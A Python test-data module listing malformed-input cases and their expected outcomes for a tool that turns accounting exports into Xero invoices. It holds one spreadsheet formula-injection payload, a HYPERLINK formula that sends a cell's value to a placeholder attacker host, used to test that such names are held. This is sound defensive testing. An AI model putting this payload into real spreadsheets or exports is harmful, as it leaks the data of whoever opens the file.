"""The bad-input matrix, as data: for each input table and column, the ways real exports go wrong, and the
documented outcome of each.

Two outcomes only (contract §3, §5):
- Stop: the source cannot be used at all; the run stops before changing anything, with one line on stderr
  naming the file and what to do (`SourceError`).
- Hold: the run succeeds; the invoices that depend on the bad value are held with a code and a detail that
  names the file, row, column and value; every other invoice goes on as if nothing happened.
Plus the inputs that look wrong but are read as meant (Ready), which are decisions too.

Three groups, by how they are run:
- VALUE_CASES change one practice's rows: all run together in ONE source where each case is its own
  practice (same ids everywhere, different names), beside an untouched control practice. So every case
  also shows that a bad practice never reaches another.
- FILE_CASES change a whole file (encoding, line ends, columns, Parquet types): one run each.
- STOP_CASES make the source unusable: `read_source` must raise a one-line SourceError naming the file
  (a few also go through a whole run and the CLI in test_matrix.py, to show nothing changed).

Decisions (each case's `note` says why):
- a UTF-8 BOM, CRLF or CR-only line ends, quoted commas and line breaks, padded header names, columns in any
  order: accepted, read as meant;
- an extra column: ignored (a repeated extra column too); a repeated contract column: stop (which is meant?);
- a missing file or column, an empty file, bytes that are not UTF-8, a row with more fields than the header,
  an unclosed quote, a ';'-separated file: stop, naming the file (and the line where it can);
- a file with a header only: read as an empty table; whatever needs its rows is held (or, for invoices, the
  lines are ORPHAN_LINE);
- a Parquet column of another type is read as its text (float 1.5 -> '1.5', Date -> '2026-01-15', timestamp
  with a zone -> UTC, bool -> 'true'); a float that is not exact to 4 places is held, never rounded;
  a nested (list/struct) column: stop;
- a value that does not parse, an unknown enum value, a date outside 1900-2099, more than 4 decimal places,
  more than 14 digits, quantity x unit amount of 10^12 or more: INVALID_VALUE on the invoices that use it;
  enum values are matched case-insensitively and trimmed; a date at midnight (`2026-01-15 00:00:00`) is
  a date;
- an empty required value: INVALID_VALUE; an empty optional reference: no reference (slot empty, template's
  account code used, ...); an empty key of a reference row: the row cannot be identified, so whatever names
  it finds nothing (UNKNOWN_* holds); a line without a line_id holds its invoice, one without a practice_id
  holds that invoice id in every practice (it may be any one's); a line without an invoice_id, or an invoice
  without a key, is recorded as an error with no invoice (an invoice's lines become ORPHAN_LINE);
- a repeated key: DUPLICATE_KEY on every invoice that uses it, first row kept; a repeated invoice of which
  any copy is approved is held (never hidden behind a draft copy);
- negative quantities and amounts: accepted (credit lines); their total is what Xero checks;
- names and text over Xero's limits (category and option names 100, contact names 255, descriptions 4,000,
  invoice numbers 255): INVALID_VALUE, never cut;
- formula-looking text (= + - @ tab at the start): a tracking category or option name or a client (contact)
  name is held with INVALID_VALUE. These are names Xero matches exactly (an escaped `'=...` would be
  another option or contact), so the only safe fix is a rename, and the hold says so. Free text
  (description, reference, invoice number) is passed exactly as exported: Xero's importer reads cells as
  text, an apostrophe would end up in the practice's Xero data, and descriptions often start with '-' or '+'.
  The risk left is a person opening the batch CSV in a spreadsheet; see the report for the lead.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.reliability.practice import VICTIM_ROW, VICTIMS, Source, find_row, row
from transforms.parse_sources import KEYS, TABLES

# Expected outcomes -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Held:
    """The invoices that depend on the bad value are held with (at least) these codes; others are ready."""

    codes: tuple[str, ...]
    invoices: tuple[str, ...] | None = None  # default: the table's victims (i2; i1 and i2 for practices)
    # text an error detail of each held invoice must contain (default: the column)
    detail_says: str | None = None


@dataclass(frozen=True)
class Ready:
    """Read as meant: every invoice of the practice is ready."""

    invoices: tuple[str, ...] = ("i1", "i2")


@dataclass(frozen=True)
class NotExported:
    """Not an approved invoice: read, but not in invoice_tracking (drafts and voids), the others ready."""

    invoices: tuple[str, ...] = ("i2",)


@dataclass(frozen=True)
class Orphaned:
    """The rows cannot be tied to an invoice: recorded in exceptions with no invoice; the rest goes on."""

    code: str = "ORPHAN_LINE"
    lines: tuple[str, ...] = ("l1", "l2")
    absent: tuple[str, ...] = ("i2",)  # invoices no longer in invoice_tracking


@dataclass(frozen=True)
class Stop:
    """The run stops before changing anything: one line naming the file and saying this."""

    says: str


Expect = Held | Ready | NotExported | Orphaned | Stop


@dataclass(frozen=True)
class Case:
    id: str
    table: str
    column: str  # a contract column, or "*" for the whole file
    problem: str  # what goes wrong, in a few words
    expect: Expect
    edit: Callable[[Source, str], None] | None = None  # changes one practice's rows (VALUE_CASES)
    write: dict = field(default_factory=dict)  # write_source options (FILE_CASES)
    note: str = ""  # the decision, when the outcome is one

    @property
    def victims(self) -> tuple[str, ...]:
        if isinstance(self.expect, Held) and self.expect.invoices is not None:
            return self.expect.invoices
        return VICTIMS[self.table]


# Edits of one practice's rows ---------------------------------------------------------------------------


def set_value(table: str, column: str, value: str | None, at: dict[str, str] | None = None) -> Callable:
    def edit(source: Source, pid: str) -> None:
        text = value.replace("{pid}", pid) if isinstance(value, str) else value
        find_row(source, table, pid, at if at is not None else VICTIM_ROW[table])[column] = text

    return edit


def repeat_row(table: str, **changes: str | None) -> Callable:
    """Append a copy of the victim row (same key), with some values changed."""

    def edit(source: Source, pid: str) -> None:
        copy = dict(find_row(source, table, pid, VICTIM_ROW[table]))
        copy.update(changes)
        source[table].append(copy)

    return edit


def edits(*steps: Callable) -> Callable:
    def edit(source: Source, pid: str) -> None:
        for step in steps:
            step(source, pid)

    return edit


def add_row(table: str, **values: str | None) -> Callable:
    def edit(source: Source, pid: str) -> None:
        source[table].append(row(table, practice_id=pid, **values))

    return edit


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LINE2 = {"invoice_id": "i2", "line_id": "l2"}  # i2's adhoc line (no template)


def _c(
    table: str, column: str, problem: str, value: str | None, expect: Expect, note: str = "", at=None
) -> Case:
    slug = "".join(ch if ch.isalnum() else "-" for ch in problem.lower()).strip("-")
    return Case(
        f"{table}.{column}:{slug}",
        table,
        column,
        problem,
        expect,
        set_value(table, column, value, at),
        note=note,
    )


def _dup(table: str, problem: str, expect: Expect, note: str = "", **changes) -> Case:
    slug = "".join(ch if ch.isalnum() else "-" for ch in problem.lower()).strip("-")
    key = KEYS[table][-1]
    return Case(f"{table}.{key}:{slug}", table, key, problem, expect, repeat_row(table, **changes), note=note)


IV, DK = ("INVALID_VALUE",), ("DUPLICATE_KEY",)
R = Ready()

VALUE_CASES: list[Case] = [
    # practices -- both invoices depend on the practice row
    _c(
        "practices",
        "practice_id",
        "empty (null key)",
        None,
        Held(IV, detail_says="practice_id"),
        "the row cannot be identified; the practice's invoices name a practice that is not there",
    ),
    _c("practices", "name", "empty", "", Held(IV, detail_says="name")),
    _c("practices", "name", "formula", FORMULA, R, "never sent to Xero, so nothing to guard"),
    _c("practices", "ledger", "unknown enum value", "netsuite", Held(IV, detail_says="ledger")),
    _c("practices", "ledger", "upper case", "XERO", R, "enum values are matched case-insensitively"),
    _c("practices", "ledger", "padded with blanks", "  xero ", R, "enum values are trimmed"),
    _dup("practices", "duplicate key", Held(DK)),
    _dup("practices", "duplicate key, other ledger", Held(DK), ledger="sage"),
    # tracking_categories -- i2's slot 1 category (Region)
    _c(
        "tracking_categories",
        "practice_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_OPTION",), detail_says="cat-c"),
        "a reference row without its practice belongs to none: whatever names it finds nothing",
    ),
    _c(
        "tracking_categories",
        "tracking_category_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_OPTION",), detail_says="cat-c"),
    ),
    _c("tracking_categories", "name", "empty", None, Held(IV, detail_says="name")),
    _c(
        "tracking_categories",
        "name",
        "101 characters",
        "R" * 101,
        Held(IV, detail_says="101"),
        "Xero takes 100: held, never cut",
    ),
    _c("tracking_categories", "name", "100 characters", "R" * 100, R, "the limit itself is fine"),
    _c(
        "tracking_categories",
        "name",
        "formula",
        FORMULA,
        Held(IV, detail_says="formula"),
        "matched exactly by Xero, so it cannot be escaped: held until renamed",
    ),
    _c("tracking_categories", "name", "starts with -", "-Region", Held(IV, detail_says="formula")),
    _c("tracking_categories", "status", "unknown enum value", "HIDDEN", Held(IV, detail_says="status")),
    _c(
        "tracking_categories",
        "status",
        "archived, lower case",
        "archived",
        Held(("ARCHIVED_OPTION",), detail_says="not active"),
    ),
    _dup("tracking_categories", "duplicate key", Held(DK)),
    # tracking_options -- i2's slot 1 option (North)
    _c(
        "tracking_options",
        "tracking_option_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_OPTION",), detail_says="o-c2"),
    ),
    _c(
        "tracking_options",
        "tracking_category_id",
        "empty",
        None,
        Held(IV, detail_says="tracking_category_id"),
    ),
    _c(
        "tracking_options",
        "tracking_category_id",
        "unknown category",
        "cat-zz",
        Held(("UNKNOWN_OPTION",), detail_says="cat-zz"),
    ),
    _c("tracking_options", "name", "empty", "  ", Held(IV, detail_says="name"), "blank is empty"),
    _c("tracking_options", "name", "101 characters", "N" * 101, Held(IV, detail_says="101")),
    _c("tracking_options", "name", "formula", FORMULA, Held(IV, detail_says="formula")),
    _c("tracking_options", "name", "starts with @", "@North", Held(IV, detail_says="formula")),
    _c(
        "tracking_options",
        "name",
        "non-ASCII and emoji",
        "Zoë Øresund 東京 🚀 «{pid}»",
        R,
        "sent byte for byte",
    ),
    _c("tracking_options", "status", "unknown enum value", "GONE", Held(IV, detail_says="status")),
    _c(
        "tracking_options",
        "status",
        "deleted",
        "DELETED",
        Held(("ARCHIVED_OPTION",), detail_says="not active"),
    ),
    _dup("tracking_options", "duplicate key", Held(DK)),
    # team_members -- m2 owns c2 and gives i2's slot 2
    _c(
        "team_members",
        "team_member_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_TEAM_MEMBER",), detail_says="m2"),
    ),
    _c("team_members", "name", "empty", None, Held(IV, detail_says="name")),
    _c("team_members", "name", "formula", FORMULA, R, "a member's name is never sent"),
    _c(
        "team_members",
        "tracking_option_id",
        "empty",
        None,
        R,
        "optional: the owner has no option, slot 2 empty",
    ),
    _c(
        "team_members",
        "tracking_option_id",
        "unknown option",
        "o-zz",
        Held(("UNKNOWN_OPTION",), detail_says="o-zz"),
    ),
    _c(
        "team_members",
        "tracking_option_id",
        "option only another practice has",
        "o-x9",
        Held(("UNKNOWN_OPTION",), detail_says="o-x9"),
        "ids are looked up in the invoice's own practice only",
    ),
    _dup("team_members", "duplicate key", Held(DK)),
    # service_templates -- svc-2 is on i2's first line
    _c(
        "service_templates",
        "service_template_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_SERVICE",), detail_says="svc-2"),
    ),
    _c("service_templates", "name", "empty", None, Held(IV, detail_says="name")),
    _c(
        "service_templates",
        "tracking_option_id",
        "unknown option",
        "o-zz",
        Held(("UNKNOWN_OPTION",), detail_says="o-zz"),
    ),
    _c(
        "service_templates",
        "account_code",
        "empty",
        None,
        Held(("MISSING_ACCOUNT_CODE",), detail_says="account_code"),
    ),
    _c("service_templates", "tax_type", "empty", "", Held(("MISSING_TAX_TYPE",), detail_says="tax_type")),
    _dup("service_templates", "duplicate key", Held(DK)),
    # clients -- c2 is i2's client
    _c("clients", "client_id", "empty (null key)", None, Held(("UNKNOWN_CLIENT",), detail_says="c2")),
    _c("clients", "name", "empty", None, Held(IV, detail_says="name")),
    _c(
        "clients",
        "name",
        "256 characters",
        "B" * 256,
        Held(IV, detail_says="256"),
        "sent as the contact name (JSON without a contact id, CSV always): Xero takes 255",
    ),
    _c(
        "clients",
        "name",
        "formula",
        FORMULA,
        Held(IV, detail_says="formula"),
        "the CSV's *ContactName is matched exactly by Xero, so it cannot be escaped",
    ),
    _c(
        "clients",
        "name",
        "comma, quote and line break",
        'Bolt, "the" Ltd\nNorth «{pid}»',
        R,
        "quoted in the CSV, escaped in the JSON; sent exactly",
    ),
    _c("clients", "xero_contact_id", "empty", "", R, "optional: Contact.Name is sent instead"),
    _c("clients", "owner_team_member_id", "empty", None, R, "optional: no owner, slot 2 of i2 empty"),
    _c(
        "clients",
        "owner_team_member_id",
        "unknown member",
        "m9",
        Held(("UNKNOWN_TEAM_MEMBER",), detail_says="m9"),
    ),
    _c("clients", "tracking_option_id", "empty", None, R, "optional: slot 1 empty (R1)"),
    _c(
        "clients",
        "tracking_option_id",
        "unknown option",
        "o-zz",
        Held(("UNKNOWN_OPTION",), detail_says="o-zz"),
    ),
    _c("clients", "consolidate_lines", "not a bool", "maybe", Held(IV, detail_says="consolidate_lines")),
    _c(
        "clients",
        "consolidate_lines",
        "upper case TRUE",
        "TRUE",
        R,
        "bools: true/false, yes/no, 1/0, any case",
    ),
    _dup("clients", "duplicate key", Held(DK)),
    # invoices -- i2
    Case(
        "invoices.invoice_id:empty-null-key",
        "invoices",
        "invoice_id",
        "empty (null key)",
        Orphaned(),
        set_value("invoices", "invoice_id", None),
        "recorded as an error with no invoice; its lines are ORPHAN_LINE",
    ),
    Case(
        "invoices.practice_id:empty-null-key",
        "invoices",
        "practice_id",
        "empty (null key)",
        Orphaned(),
        set_value("invoices", "practice_id", ""),
        "as above: which practice's invoice it is cannot be known",
    ),
    _c("invoices", "client_id", "empty", None, Held(IV, detail_says="client_id")),
    _c("invoices", "client_id", "unknown client", "c9", Held(("UNKNOWN_CLIENT",), detail_says="c9")),
    _c(
        "invoices",
        "client_id",
        "client only another practice has",
        "c-x9",
        Held(("UNKNOWN_CLIENT",), detail_says="c-x9"),
    ),
    _c("invoices", "invoice_number", "empty", None, Held(IV, detail_says="invoice_number")),
    _c("invoices", "invoice_number", "256 characters", "N" * 256, Held(IV, detail_says="256")),
    _c("invoices", "invoice_number", "255 characters", "N" * 255, R),
    _c("invoices", "invoice_number", "formula", "=1+1", R, "free text: sent exactly as exported"),
    _c("invoices", "issue_date", "not a real date", "2026-02-30", Held(IV, detail_says="issue_date")),
    _c(
        "invoices",
        "issue_date",
        "day/month/year",
        "15/01/2026",
        Held(IV, detail_says="issue_date"),
        "ambiguous (15/01 or 01/15?): held, never guessed",
    ),
    _c("invoices", "issue_date", "before 1900", "1899-12-31", Held(IV, detail_says="issue_date")),
    _c("invoices", "issue_date", "after 2099", "2100-01-01", Held(IV, detail_says="issue_date")),
    _c("invoices", "issue_date", "empty", None, Held(IV, detail_says="issue_date")),
    _c("invoices", "issue_date", "at midnight", "2026-01-15 00:00:00", R, "a spreadsheet's date: accepted"),
    _c("invoices", "due_date", "year 9999", "9999-12-31", Held(IV, detail_says="due_date")),
    _c("invoices", "currency", "unknown code", "XXX", Held(IV, detail_says="currency")),
    _c("invoices", "currency", "lower case", "gbp", R),
    _c("invoices", "reference", "formula", FORMULA, R, "free text: sent exactly as exported"),
    _c("invoices", "reference", "empty", None, R, "optional"),
    _c(
        "invoices",
        "status",
        "unknown enum value",
        "sent",
        Held(IV, detail_says="status"),
        "an invoice whose status does not parse is held, so nothing goes unseen",
    ),
    _c("invoices", "status", "empty", None, Held(IV, detail_says="status")),
    _c("invoices", "status", "upper case", "APPROVED", R),
    _c("invoices", "status", "draft", "draft", NotExported(), "drafts are read but not exported"),
    _c("invoices", "updated_at", "not a timestamp", "yesterday", Held(IV, detail_says="updated_at")),
    _c("invoices", "updated_at", "with an offset", "2026-01-15T09:00:00+02:00", R, "converted to UTC"),
    _dup("invoices", "duplicate key", Held(DK)),
    _dup("invoices", "duplicate key, first copy a draft", Held(DK), status="approved"),
    # invoice_lines -- i2's first line (service, svc-2), or its adhoc line l2
    _c(
        "invoice_lines",
        "line_id",
        "empty (null key)",
        None,
        Held(IV, detail_says="line_id"),
        "the line cannot be identified, so its invoice is held (never sent without it)",
    ),
    Case(
        "invoice_lines.invoice_id:empty-null-key",
        "invoice_lines",
        "invoice_id",
        "empty (null key)",
        Orphaned(code="INVALID_VALUE", lines=(), absent=()),
        set_value("invoice_lines", "invoice_id", None),
        "names no invoice: recorded as an error with no invoice; i2 goes with its other line",
    ),
    Case(
        "invoice_lines.invoice_id:unknown-invoice",
        "invoice_lines",
        "invoice_id",
        "unknown invoice",
        Orphaned(lines=("l1",), absent=()),
        set_value("invoice_lines", "invoice_id", "i9"),
        "ORPHAN_LINE, recorded with a null invoice",
    ),
    _c("invoice_lines", "position", "not whole", "1.5", Held(IV, detail_says="position")),
    _c(
        "invoice_lines",
        "position",
        "float text",
        "1.0",
        R,
        "a whole float (a Parquet float column) is accepted",
    ),
    _c("invoice_lines", "position", "10 digits", "9999999999", Held(IV, detail_says="position")),
    _c("invoice_lines", "line_type", "unknown enum value", "misc", Held(IV, detail_says="line_type")),
    _c("invoice_lines", "line_type", "capitalised", "Service", R),
    _c("invoice_lines", "service_template_id", "empty on a service line", None, Held(("UNKNOWN_SERVICE",))),
    _c(
        "invoice_lines",
        "service_template_id",
        "template only another practice has",
        "svc-x9",
        Held(("UNKNOWN_SERVICE",), detail_says="svc-x9"),
    ),
    _c("invoice_lines", "description", "empty", None, Held(IV, detail_says="description")),
    _c("invoice_lines", "description", "4,001 characters", "d" * 4001, Held(IV, detail_says="4001")),
    _c("invoice_lines", "description", "4,000 characters", "d" * 4000, R),
    _c("invoice_lines", "description", "formula", FORMULA, R, "free text: sent exactly as exported"),
    _c("invoice_lines", "description", "quoted line break and comma", 'two\r\nlines, "quoted" «{pid}»', R),
    _c("invoice_lines", "quantity", "not a number", "abc", Held(IV, detail_says="quantity")),
    _c("invoice_lines", "quantity", "empty", None, Held(IV, detail_says="quantity")),
    _c(
        "invoice_lines",
        "quantity",
        "negative",
        "-1",
        R,
        "credit lines are normal; i2 still totals 74.50",
        at=LINE2,
    ),
    _c("invoice_lines", "quantity", "scientific notation", "1e3", Held(IV, detail_says="quantity")),
    _c(
        "invoice_lines",
        "quantity",
        "thousands separator",
        "1,000",
        Held(IV, detail_says="quantity"),
        "1,000 or 1.000? held, never guessed",
    ),
    _c("invoice_lines", "quantity", "15 digits", "123456789012345", Held(IV, detail_says="quantity")),
    _c(
        "invoice_lines",
        "quantity",
        "huge: amount 10^12 or more",
        "20000000000",
        Held(IV, detail_says="quantity x unit_amount"),
        "fits 14 digits, but x 50.00 is 10^12: no Xero line is that big, and totals would overflow",
    ),
    _c(
        "invoice_lines",
        "quantity",
        "5 decimal places",
        "1.00001",
        Held(IV, detail_says="4 decimal places"),
        "held, never rounded",
    ),
    _c("invoice_lines", "quantity", "4 decimal places", "1.2345", R),
    _c("invoice_lines", "quantity", "padded, with a plus sign", " +2 ", R),
    _c(
        "invoice_lines",
        "unit_amount",
        "5 decimal places",
        "50.00001",
        Held(IV, detail_says="4 decimal places"),
    ),
    _c("invoice_lines", "unit_amount", "currency symbol", "£50", Held(IV, detail_says="unit_amount")),
    _c("invoice_lines", "unit_amount", "negative", "-5.25", R, "a discount line", at=LINE2),
    _c(
        "invoice_lines",
        "account_code",
        "empty on an adhoc line",
        None,
        Held(("MISSING_ACCOUNT_CODE",)),
        at=LINE2,
    ),
    _c("invoice_lines", "tax_type", "empty on an adhoc line", None, Held(("MISSING_TAX_TYPE",)), at=LINE2),
    _dup("invoice_lines", "duplicate key", Held(DK)),
    # a reference row without its practice_id belongs to no practice: whatever names it finds nothing
    _c(
        "tracking_options",
        "practice_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_OPTION",), detail_says="o-c2"),
    ),
    _c(
        "team_members",
        "practice_id",
        "empty (null key)",
        "",
        Held(("UNKNOWN_TEAM_MEMBER",), detail_says="m2"),
    ),
    _c(
        "service_templates",
        "practice_id",
        "empty (null key)",
        None,
        Held(("UNKNOWN_SERVICE",), detail_says="svc-2"),
    ),
    _c("clients", "practice_id", "empty (null key)", " ", Held(("UNKNOWN_CLIENT",), detail_says="c2")),
    # names that never reach Xero have no Xero limit
    _c("service_templates", "name", "5,000 characters", "S" * 5000, R, "never sent: no limit to keep"),
    _c("team_members", "name", "5,000 characters", "M" * 5000, R, "never sent: no limit to keep"),
]

# Cases run with one practice beside a control practice, because they cannot be confined to a practice:
# a line without a practice_id might belong to i2 of ANY practice, so every i2 must be held.
ALONE_CASES: list[Case] = [
    Case(
        "invoice_lines.practice_id:empty-null-key",
        "invoice_lines",
        "practice_id",
        "empty (null key)",
        Held(IV, detail_says="practice_id"),
        set_value("invoice_lines", "practice_id", None),
        "which practice's i2 it belongs to is unknown, so no invoice i2 may go without it: every i2 is held",
    ),
]


# Whole-file cases ----------------------------------------------------------------------------------------


def _bom(table: str, data: bytes) -> bytes:
    return codecs.BOM_UTF8 + data


def _crlf(table: str, data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _cr(table: str, data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r")


ALL = tuple(TABLES)


def _extra(table: str, names: list[str]) -> list[str]:
    return ["exported_at", *names, "notes", "notes"]


def _reordered(table: str, names: list[str]) -> list[str]:
    return list(reversed(names))


def _padded(table: str, data: bytes) -> bytes:
    header, rest = data.split(b"\n", 1)
    return b",".join(b"  " + name + b" " for name in header.split(b",")) + b"\n" + rest


FILE_CASES: list[Case] = [
    Case(
        "*.bom",
        "*",
        "*",
        "UTF-8 byte-order mark",
        R,
        write={"transform": _bom},
        note="accepted (Excel writes one)",
    ),
    Case("*.crlf", "*", "*", "CRLF line ends", R, write={"transform": _crlf}, note="accepted"),
    Case("*.cr", "*", "*", "CR-only line ends", R, write={"transform": _cr}, note="accepted (old Mac Excel)"),
    Case(
        "*.extra-columns",
        "*",
        "*",
        "extra columns, one repeated",
        R,
        write={"columns": _extra},
        note="ignored",
    ),
    Case(
        "*.reordered", "*", "*", "columns in another order", R, write={"columns": _reordered}, note="by name"
    ),
    Case(
        "*.padded-header",
        "*",
        "*",
        "blanks around header names",
        R,
        write={"transform": _padded},
        note="trimmed",
    ),
    Case("*.parquet-text", "*", "*", "Parquet, text columns", R, write={"parquet": ALL}),
    Case(
        "*.parquet-typed",
        "*",
        "*",
        "Parquet, natural types",
        R,
        write={"parquet": ALL, "typed_parquet": True},
        note="float quantity, int position, Date, timestamp with a zone, bool: read as their text",
    ),
    Case("*.mixed", "*", "*", "some CSV, some Parquet", R, write={"parquet": ("clients", "invoice_lines")}),
]

# A header only: the table is empty. (table, expected outcome of every invoice of the practice)
HEADER_ONLY: dict[str, Expect] = {
    "practices": Held(IV, ("i1", "i2"), detail_says="practices.csv"),
    "tracking_categories": Held(("UNKNOWN_OPTION",), ("i1", "i2")),
    "tracking_options": Held(("UNKNOWN_OPTION",), ("i1", "i2")),
    "team_members": Held(("UNKNOWN_TEAM_MEMBER",), ("i2",)),  # i1's slot 2 comes from its template
    "service_templates": Held(("UNKNOWN_SERVICE",), ("i1", "i2")),
    "clients": Held(("UNKNOWN_CLIENT",), ("i1", "i2")),
    "invoices": Orphaned(lines=("l1", "l2"), absent=("i1", "i2")),
    "invoice_lines": Held(("EMPTY_INVOICE",), ("i1", "i2")),
}
for _table, _expect in HEADER_ONLY.items():
    FILE_CASES.append(
        Case(f"{_table}.header-only", _table, "*", "header only", _expect, note="an empty table")
    )


# Stops: `read_source` raises a one-line SourceError naming the file ----------------------------------------


def _stop_cases() -> list[Case]:
    cases = []
    for table, spec in TABLES.items():
        name = f"{table}.csv"
        cases += [
            Case(f"{table}.missing-file", table, "*", "file missing", Stop(f"{name}: file is missing")),
            Case(f"{table}.empty-file", table, "*", "empty file", Stop(f"{name}: file is empty")),
            Case(f"{table}.blank-file", table, "*", "only blank lines", Stop(f"{name}: file is empty")),
            Case(
                f"{table}.latin-1",
                table,
                "*",
                "non-UTF-8 bytes (cp1252 £)",
                Stop(f"{name}: line 2 is not valid UTF-8"),
                note="the encoding cannot be known: stop, ask for UTF-8",
            ),
            Case(
                f"{table}.utf-16",
                table,
                "*",
                "UTF-16 (Excel 'Unicode text')",
                Stop(f"{name}: line 1 is not valid UTF-8"),
            ),
            Case(
                f"{table}.repeated-column",
                table,
                "*",
                "a contract column twice",
                Stop("appears twice in the header"),
            ),
            Case(
                f"{table}.ragged-row",
                table,
                "*",
                "a row with more fields than the header",
                Stop("line 2 has"),
                note="usually an unquoted comma: values would shift columns",
            ),
            Case(f"{table}.open-quote", table, "*", "an unclosed quote", Stop("quote")),
            Case(f"{table}.semicolons", table, "*", "';'-separated", Stop("separated by ';'")),
            Case(f"{table}.both-formats", table, "*", "both .csv and .parquet", Stop("keep one")),
            Case(
                f"{table}.parquet-corrupt",
                table,
                "*",
                "Parquet file cut short",
                Stop("cannot be read as Parquet"),
            ),
            Case(f"{table}.parquet-nested", table, "*", "Parquet list column", Stop("not single values")),
        ]
        cases += [
            Case(
                f"{table}.{column}:missing-column",
                table,
                column,
                "column missing",
                Stop(f"column {column} is missing"),
            )
            for column in spec
        ]
    return cases


STOP_CASES: list[Case] = _stop_cases()


def all_cases() -> list[Case]:
    return [*VALUE_CASES, *ALONE_CASES, *FILE_CASES, *STOP_CASES]
